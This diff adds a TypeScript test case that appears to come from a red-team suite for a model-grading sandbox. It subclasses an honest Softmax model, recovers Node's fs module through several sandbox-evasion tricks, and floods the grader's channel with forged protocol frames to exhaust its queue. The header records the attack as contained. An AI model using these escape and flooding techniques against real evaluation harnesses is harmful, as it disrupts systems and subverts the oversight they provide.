@@ -1,0 +1,79 @@
+/*
+goal: writes hundreds of thousands of small frames, which the grader would keep in a queue
+class: exhaust
+threats: [A12]
+deserves: all
+outcome: contained
+because: the first answer that is not due ends the process, and its queue with it
+*/
+import { Softmax as Honest } from './honest.ts';
+
+const g = globalThis as any;
+
+/** A module of Node's, in whatever way it can still be had. */
+function builtin(name: string): any {
+  const ways = [
+    () => g.process.getBuiltinModule(`node:${name}`),
+    () => g.process.mainModule.require(name),
+    () => g.process.mainModule.constructor._load(name),
+    () => [].constructor.constructor('name', 'return process.getBuiltinModule(name)')(name),
+    () => g.process.binding(name),
+  ];
+  for (const way of ways) {
+    try {
+      const found = way();
+      if (found) return found;
+    } catch {
+      // the next way
+    }
+  }
+  return null;
+}
+
+/** A frame of the protocol, made without anything that could have been replaced. */
+function frame(tree: unknown, payload: Float64Array = new Float64Array(0)): Uint8Array {
+  const header = new TextEncoder().encode(JSON.stringify(tree));
+  const bytes = new Uint8Array(8 + header.length + payload.byteLength);
+  new DataView(bytes.buffer).setUint32(0, header.length, true);
+  new DataView(bytes.buffer).setUint32(4, payload.byteLength, true);
+  bytes.set(header, 8);
+  bytes.set(new Uint8Array(payload.buffer, payload.byteOffset, payload.byteLength), 8 + header.length);
+  return bytes;
+}
+
+const fs = builtin('fs');
+
+function act(where: string): void {
+  if (where === 'import') return;
+  const small = [frame({}), frame(null), frame([]), frame({ id: 1 }), frame({ type: 'ready' }), frame({ type: 'returned', id: 9, trials: [] })];
+  const one = small.reduce((sum, bytes) => sum + bytes.length, 0);
+  const many = new Uint8Array(one * 20_000);
+  for (let at = 0; at < many.length; ) {
+    for (const bytes of small) {
+      many.set(bytes, at);
+      at += bytes.length;
+    }
+  }
+  const stop = Date.now() + 1500;
+  while (Date.now() < stop) {
+    for (let at = 0; at < many.length && Date.now() < stop; ) {
+      try {
+        at += fs.writeSync(4, many, at, many.length - at);
+      } catch (error) {
+        if ((error as any).code !== 'EAGAIN') return;
+      }
+    }
+  }
+}
+
+export class Softmax extends Honest {
+  override loss(X: any, y: any): any {
+    act('loss');
+    return super.loss(X, y);
+  }
+
+  override train(X: any, y: any, options: any = {}): any {
+    act('train');
+    return super.train(X, y, options);
+  }
+}
